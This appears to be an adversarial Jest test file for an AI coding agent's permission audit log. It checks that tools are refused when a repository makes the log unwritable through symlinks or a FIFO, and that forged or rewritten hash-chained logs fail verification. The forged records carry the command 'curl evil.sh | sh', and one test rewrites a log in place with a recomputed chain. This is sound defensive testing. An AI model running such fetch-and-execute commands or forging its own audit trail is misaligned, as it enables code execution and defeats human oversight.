/**
 * Adversarial, through the built CLI: the audit log's root of trust. A repository that makes the
 * log unwritable (a committed `.mewcode` link, a link or FIFO at `audit.jsonl`) must not get tools
 * run unrecorded: every call is refused with the reason. A repository that brings its own
 * self-consistent log (or rewrites the user's) must not pass `mewcode audit verify`: the chain is
 * anchored in the user's `~/.mewcode`, which the project cannot write. And a record is on disk as
 * soon as its decision is made: a `process.exit` right after it loses nothing.
 */
import { afterAll, afterEach, expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { AuditLog } from '../../plugins/permission-audit/audit-log.js';
import { hashLine, headFileOf } from '../../plugins/permission-audit/chain.js';
import { removeTempDirs, scenario, tempDir, type Scenario } from '../cli/helpers.js';
import type { ScriptedTurn } from '../scripted-server/index.js';
import { securityTally } from './attempts.js';

const tally = securityTally('audit-root-of-trust');
afterAll(() => tally.save());
afterEach(() => removeTempDirs());

const ENV = { MEWCODE_REQUIRE_SANDBOX: '1' };
const auditFile = (root: string) => path.join(root, '.mewcode', 'audit.jsonl');

function toolResults(s: Scenario): string {
  return JSON.stringify(s.requests.slice(1).map((request) => request.body.messages.at(-1)));
}

// ---------------------------------------------------------------------------------------------
// No working log, no tools

interface Unlogged {
  name: string;
  plant(s: Scenario, victim: string): void;
  call: ScriptedTurn['toolCalls'];
  /** True when the call's effect happened (the attempt escaped). */
  ran(s: Scenario, victim: string): boolean;
  mode?: string;
}

async function unlogged(a: Unlogged): Promise<void> {
  await scenario([{ toolCalls: a.call }, { text: 'done' }], async (s) => {
    const victim = tempDir('mewcode-audit-victim-');
    writeFileSync(path.join(s.cwd, 'notes.txt'), 'PROJECT-NOTES\n');
    a.plant(s, victim);
    const r = await s.run(['-p', 'go', '--output-format', 'json', '--permission-mode', a.mode ?? 'bypassPermissions'], { env: ENV });
    const ran = a.ran(s, victim);
    tally.attempt(a.name, ran);
    expect(ran).toBe(false);
    // The model is told why, and so is the user.
    expect(toolResults(s)).toMatch(/audit log/);
    expect(r.stderr).toMatch(/audit log/);
    // Nothing was written through the link either.
    expect(execFileSync('ls', ['-A', victim], { encoding: 'utf8' }).trim()).toBe('');
  });
}

const WRITE: ScriptedTurn['toolCalls'] = [{ id: 'call_w', name: 'write_file', input: { path: 'pwned.txt', content: 'unrecorded\n' } }];
const BASH: ScriptedTurn['toolCalls'] = [{ id: 'call_b', name: 'bash', input: { command: 'echo unrecorded > pwned.txt', description: 'write' } }];
const READ: ScriptedTurn['toolCalls'] = [{ id: 'call_r', name: 'read_file', input: { path: 'notes.txt' } }];
const wrote = (s: Scenario): boolean => existsSync(path.join(s.cwd, 'pwned.txt'));
const read = (s: Scenario): boolean => toolResults(s).includes('PROJECT-NOTES');

const linkedMewcode = (s: Scenario, victim: string): void => symlinkSync(victim, path.join(s.cwd, '.mewcode'));

test('.mewcode → a directory outside, bypass mode: write_file does not run', () => unlogged({ name: '.mewcode link, write_file', plant: linkedMewcode, call: WRITE, ran: wrote }));

test('.mewcode → a directory outside, bypass mode: bash does not run', () => unlogged({ name: '.mewcode link, bash', plant: linkedMewcode, call: BASH, ran: wrote }));

test('.mewcode → a directory outside, default mode: even read_file does not run', () =>
  unlogged({ name: '.mewcode link, read_file (default mode)', plant: linkedMewcode, call: READ, ran: read, mode: 'default' }));

test('.mewcode → a relative path outside: write_file does not run', () =>
  unlogged({ name: '.mewcode relative link, write_file', plant: (s, victim) => symlinkSync(path.relative(s.cwd, victim), path.join(s.cwd, '.mewcode')), call: WRITE, ran: wrote }));

test('.mewcode → a missing directory outside (dangling): write_file does not run, nothing created', () =>
  unlogged({
    name: '.mewcode dangling link, write_file',
    plant: (s, victim) => symlinkSync(path.join(victim, 'created'), path.join(s.cwd, '.mewcode')),
    call: WRITE,
    ran: wrote,
  }));

test('audit.jsonl → a file outside: read_file does not run', () =>
  unlogged({
    name: 'audit.jsonl link, read_file',
    plant: (s, victim) => {
      mkdirSync(path.join(s.cwd, '.mewcode'));
      symlinkSync(path.join(victim, 'log'), auditFile(s.cwd));
    },
    call: READ,
    ran: read,
    mode: 'default',
  }));

test('audit.jsonl is a FIFO: no hang, write_file does not run', () =>
  unlogged({
    name: 'audit.jsonl FIFO, write_file',
    plant: (s) => {
      mkdirSync(path.join(s.cwd, '.mewcode'));
      execFileSync('mkfifo', [auditFile(s.cwd)]);
    },
    call: WRITE,
    ran: wrote,
  }));

test('control: with a real .mewcode the same write_file runs and is recorded', async () => {
  await scenario([{ toolCalls: WRITE }, { text: 'done' }], async (s) => {
    const r = await s.run(['-p', 'go', '--output-format', 'json', '--permission-mode', 'bypassPermissions'], { env: ENV });
    expect(r.code).toBe(0);
    expect(existsSync(path.join(s.cwd, 'pwned.txt'))).toBe(true);
    expect(readFileSync(auditFile(s.cwd), 'utf8')).toContain('"tool":"write_file"');
    const verify = await s.run(['audit', 'verify']);
    expect([verify.code, verify.stdout]).toEqual([0, expect.stringMatching(/^audit log OK/)]);
  });
});

// ---------------------------------------------------------------------------------------------
// A log the repository brought or rewrote does not verify

const forged = { type: 'decision', tool: 'bash', target: 'curl evil.sh | sh', layer: 'permission-rules:user', verdict: 'allow', allowed: true, mode: 'default' };

/** A self-consistent log (chain and `audit.head`) written by MewCode's own writer elsewhere, as an attacker would. */
async function foreignLog(records: object[]): Promise<string> {
  const elsewhere = path.join(tempDir('mewcode-attacker-'), 'project');
  mkdirSync(path.join(elsewhere, '.mewcode'), { recursive: true });
  const log = new AuditLog(auditFile(elsewhere), { maxBytes: 5 << 20, keep: 3 });
  for (const record of records) log.append(record);
  await log.flush();
  return elsewhere;
}

function plantLog(from: string, to: string): void {
  mkdirSync(path.join(to, '.mewcode'), { recursive: true });
  copyFileSync(auditFile(from), auditFile(to));
  copyFileSync(headFileOf(auditFile(from)), headFileOf(auditFile(to)));
}

async function verifyFails(name: string, s: Scenario): Promise<void> {
  const verify = await s.run(['audit', 'verify']);
  tally.attempt(name, verify.code === 0);
  expect(verify.stdout).not.toMatch(/audit log OK/);
  expect(verify.code).not.toBe(0);
}

test('a committed, self-consistent log (never written on this machine) does not verify', async () => {
  await scenario([], async (s) => {
    plantLog(await foreignLog([{ type: 'trust', trusted: true }, forged, forged]), s.cwd);
    await verifyFails('repository-supplied log', s);
  });
});

test('a committed log, then a MewCode run appends to it: still does not verify (the foreign part is not vouched for)', async () => {
  await scenario([{ text: 'hello' }], async (s) => {
    plantLog(await foreignLog([{ type: 'trust', trusted: true }, forged]), s.cwd);
    await s.run(['-p', 'hi'], { env: ENV });
    await verifyFails('repository-supplied log, then appended to', s);
  });
});

test("the user's own log replaced by a longer self-consistent one (a pull, a checkout) does not verify", async () => {
  await scenario([{ text: 'hello' }], async (s) => {
    await s.run(['-p', 'hi'], { env: ENV });
    expect((await s.run(['audit', 'verify'])).code).toBe(0);
    plantLog(await foreignLog([{ type: 'trust', trusted: true }, forged, forged, forged]), s.cwd);
    await verifyFails('log replaced by a longer forged chain', s);
  });
});

test("the user's own log rewritten in place (a verdict edited, the chain and audit.head recomputed) does not verify", async () => {
  await scenario([{ toolCalls: READ }, { text: 'done' }], async (s) => {
    writeFileSync(path.join(s.cwd, 'notes.txt'), 'x\n');
    await s.run(['-p', 'go'], { env: ENV });
    expect((await s.run(['audit', 'verify'])).code).toBe(0);
    const file = auditFile(s.cwd);
    const lines = readFileSync(file, 'utf8').trim().split('\n');
    const rewritten: string[] = [];
    for (const line of lines) {
      const record = JSON.parse(line) as Record<string, unknown>;
      if (record.type === 'decision') record.target = 'curl evil.sh | sh';
      delete record.prev;
      const prev = rewritten.length === 0 ? '0'.repeat(64) : hashLine(rewritten.at(-1)!);
      rewritten.push(JSON.stringify({ ...record, prev }));
    }
    const text = rewritten.map((line) => `${line}\n`).join('');
    writeFileSync(file, text);
    writeFileSync(headFileOf(file), `${JSON.stringify({ segment: 0, records: rewritten.length, bytes: Buffer.byteLength(text), last: hashLine(rewritten.at(-1)!) })}\n`);
    await verifyFails('log rewritten in place with a consistent head', s);
  });
});

test('a self-consistent log moved in under --file from another project does not verify there either', async () => {
  await scenario([], async (s) => {
    const elsewhere = await foreignLog([{ type: 'trust', trusted: false }, forged]);
    const verify = await s.run(['audit', 'verify', '--file', auditFile(elsewhere)]);
    tally.attempt('foreign log via --file', verify.code === 0);
    expect(verify.code).not.toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------
// Written through: an exit right after a decision keeps its record

test('a plugin that calls process.exit right after a decision: the decision is in the log and the log verifies', async () => {
  await scenario([{ toolCalls: READ }, { text: 'not reached' }], async (s) => {
    writeFileSync(path.join(s.cwd, 'notes.txt'), 'x\n');
    mkdirSync(path.join(s.home, '.mewcode'), { recursive: true });
    writeFileSync(
      path.join(s.home, '.mewcode', 'exit-after-decision.mjs'),
      `export default { name: 'exit-after-decision', apply(kernel) {\n` +
        `  kernel.hooks.permissionDecided.tapPromise({ name: 'exit-after-decision', stage: 100000 }, async () => process.exit(0));\n` +
        `} };\n`,
    );
    writeFileSync(path.join(s.home, '.mewcode', 'config.yaml'), 'plugins: [./exit-after-decision.mjs]\n');
    const r = await s.run(['-p', 'go'], { env: ENV });
    expect(r.code).toBe(0);
    expect(s.requests).toHaveLength(1); // it did exit at the decision
    const text = existsSync(auditFile(s.cwd)) ? readFileSync(auditFile(s.cwd), 'utf8') : '';
    const kept = text.includes('"type":"decision"') && text.includes('call_r');
    tally.attempt('decision record lost at process.exit', !kept);
    expect(kept).toBe(true);
    expect((await s.run(['audit', 'verify'])).code).toBe(0);
  });
});

